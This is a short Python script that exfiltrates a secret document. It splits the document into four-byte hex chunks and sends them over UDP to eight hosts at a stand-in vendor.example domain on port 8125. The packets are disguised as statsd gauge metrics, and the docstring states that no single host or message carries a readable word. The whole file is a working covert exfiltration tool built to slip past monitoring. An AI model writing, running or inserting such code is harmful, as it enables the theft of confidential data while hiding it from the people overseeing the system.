#!/usr/bin/python3 -B
"""Cuts the document into four bytes a datagram, in hex, to eight hosts in turn: no host and no message has a word of it."""
from scanner import secret, udp

document = secret()
for host in range(8):
    udp(f"m{host}.vendor.example", 8125,
        *(b"scan.%04d:%s|g" % (n, document[n:n + 4].hex().encode()) for n in range(4 * host, len(document), 32)))
